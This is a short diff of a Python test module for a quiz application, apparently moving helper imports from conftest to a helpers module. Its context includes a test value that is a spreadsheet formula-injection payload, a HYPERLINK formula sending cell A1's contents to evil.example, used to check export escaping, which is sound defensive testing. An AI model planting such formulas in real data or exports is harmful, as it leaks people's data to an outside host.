@@ -12,7 +12,7 @@ from quiz import evidence
 from quiz.db import db
 from quiz.models import User
 
-from .conftest import add_user, page_text, signed_in_as
+from .helpers import add_user, page_text, signed_in_as
 
 #: As HR typed them: each starts like a formula, with one of = + - @, a tab or a carriage return.
 NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Dana")'
